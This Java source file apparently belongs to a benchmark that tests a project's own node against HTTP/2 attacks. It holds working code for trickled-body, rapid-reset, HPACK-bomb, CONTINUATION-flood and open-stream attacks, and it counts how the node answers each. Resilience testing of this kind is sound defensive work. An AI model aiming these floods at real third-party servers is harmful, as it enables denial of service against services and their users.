package dev.swarm.node.bench;

import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.BooleanSupplier;

/**
 * The attacks made frame by frame over HTTP/2 ({@link H2Attacker}): trickled bodies, rapid reset,
 * an HPACK bomb, a CONTINUATION flood, thousands of open streams. Each round opens a connection,
 * attacks until the node closes it or the round's time is up, counts what the node answered, and
 * the worker starts the next round on a new connection.
 */
final class FrameAttack implements Attack {
    /** Longer than the node's default body deadline (10 s): a round outlives its streams' deadline. */
    private static final long TRICKLE_ROUND_MS = 12_000;
    private static final long WAIT_FOR_ANSWER_MS = 5_000;

    private final AttackKind kind;
    private final AttackTarget target;
    private final AttackCounters counters;
    private final Set<H2Attacker> open = ConcurrentHashMap.newKeySet();

    FrameAttack(AttackKind kind, AttackTarget target, AttackCounters counters) {
        this.kind = kind;
        this.target = target;
        this.counters = counters;
    }

    @Override
    public int workers() {
        return switch (kind) {
            case TRICKLE_ONE -> 1;
            case TRICKLE_MANY -> target.addresses().size();
            default -> 2;
        };
    }

    @Override
    public void run(int worker, BooleanSupplier stopped) throws Exception {
        H2Attacker connection = H2Attacker.connect(target.port(), target.address(worker), target.caFile());
        open.add(connection);
        counters.add("connections");
        try {
            switch (kind) {
                case TRICKLE_ONE -> trickle(connection, 300, stopped);
                case TRICKLE_MANY -> trickle(connection, 100, stopped);
                case RAPID_RESET -> rapidReset(connection, stopped);
                case HPACK_BOMB -> hpackBomb(connection, stopped);
                case CONTINUATION_FLOOD -> continuationFlood(connection, stopped);
                case OPEN_STREAMS -> openStreams(connection, stopped);
                default -> throw new IllegalStateException(kind + " is not a frame attack");
            }
        } finally {
            counters.add("answers", connection.headersReceived());
            counters.add("resets_received", connection.resetsReceived());
            counters.add("goaways_received", connection.goAways());
            if (connection.closedByServer()) {
                counters.add("closed_by_node");
            }
            connection.close();
            open.remove(connection);
        }
    }

    private void trickle(H2Attacker connection, int streams, BooleanSupplier stopped) throws InterruptedException {
        byte[] headers = messageHeaders(List.<String[]>of(new String[] {"content-length", "100000"}));
        for (int i = 0; i < streams && !connection.closedByServer(); i++) {
            connection.tryFrame(H2Attacker.HEADERS, H2Attacker.END_HEADERS, 1 + 2 * i, headers);
            connection.tryFrame(H2Attacker.DATA, 0, 1 + 2 * i, new byte[] {'{'});
            counters.add("streams");
        }
        long end = System.currentTimeMillis() + TRICKLE_ROUND_MS;
        while (!stopped.getAsBoolean() && !connection.closedByServer() && System.currentTimeMillis() < end) {
            Thread.sleep(1_000);
            for (int i = 0; i < streams; i++) {
                connection.tryFrame(H2Attacker.DATA, 0, 1 + 2 * i, new byte[] {' '});
            }
        }
    }

    private void rapidReset(H2Attacker connection, BooleanSupplier stopped) throws InterruptedException {
        byte[] headers = H2Attacker.requestHeaders("GET", "/swarm/health", target.port(), List.of());
        for (int i = 0; i < 20_000 && !connection.closedByServer() && !stopped.getAsBoolean(); i++) {
            int stream = 1 + 2 * i;
            if (!connection.tryFrame(H2Attacker.HEADERS, H2Attacker.END_HEADERS | H2Attacker.END_STREAM, stream, headers)
                    || !connection.tryFrame(H2Attacker.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8})) {
                break;
            }
            counters.add("streams");
        }
        waitFor(() -> connection.closedByServer() || connection.goAways() > 0, stopped);
    }

    private void hpackBomb(H2Attacker connection, BooleanSupplier stopped) throws InterruptedException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(H2Attacker.requestHeaders("GET", "/swarm/health", target.port(), List.of()));
        H2Attacker.indexedLiteral(block, "x-bomb", "a".repeat(4000));
        for (int i = 0; i < 15_000; i++) {
            H2Attacker.integer(block, 0x80, 7, 62);
        }
        connection.tryFrame(H2Attacker.HEADERS, H2Attacker.END_HEADERS | H2Attacker.END_STREAM, 1, block.toByteArray());
        counters.add("streams");
        waitFor(() -> connection.closedByServer() || connection.goAways() > 0 || connection.resetsReceived() > 0
                || connection.headersReceived() > 0, stopped);
    }

    private void continuationFlood(H2Attacker connection, BooleanSupplier stopped) throws InterruptedException {
        connection.tryFrame(H2Attacker.HEADERS, 0, 1, H2Attacker.requestHeaders("GET", "/swarm/health", target.port(),
                List.of()));
        ByteArrayOutputStream more = new ByteArrayOutputStream();
        H2Attacker.literal(more, "x-more", "b".repeat(200));
        byte[] fragment = more.toByteArray();
        for (int i = 0; i < 100_000 && !connection.closedByServer() && !stopped.getAsBoolean(); i++) {
            if (!connection.tryFrame(H2Attacker.CONTINUATION, 0, 1, fragment)) {
                break;
            }
            counters.add("frames");
        }
        waitFor(connection::closedByServer, stopped);
    }

    private void openStreams(H2Attacker connection, BooleanSupplier stopped) throws InterruptedException {
        byte[] headers = messageHeaders(List.of());
        for (int i = 0; i < 2000 && !connection.closedByServer(); i++) {
            connection.tryFrame(H2Attacker.HEADERS, H2Attacker.END_HEADERS, 1 + 2 * i, headers);
            counters.add("streams");
        }
        waitFor(() -> connection.closedByServer() || connection.resetsReceived() + connection.headersReceived()
                >= 2000 - 32, stopped);
    }

    private byte[] messageHeaders(List<String[]> extra) {
        List<String[]> all = new ArrayList<>();
        all.add(new String[] {"content-type", "application/json"});
        all.addAll(extra);
        return H2Attacker.requestHeaders("POST", "/swarm/message", target.port(), all);
    }

    /** Until the node has answered the round, at most a few seconds (a benchmark's wait, not a test's). */
    private static void waitFor(BooleanSupplier answered, BooleanSupplier stopped) throws InterruptedException {
        long end = System.currentTimeMillis() + WAIT_FOR_ANSWER_MS;
        while (!answered.getAsBoolean() && !stopped.getAsBoolean() && System.currentTimeMillis() < end) {
            Thread.sleep(10);
        }
    }

    /** Closes every connection still open, which also ends a write blocked on a node that stopped reading. */
    @Override
    public void close() {
        open.forEach(H2Attacker::close);
    }
}
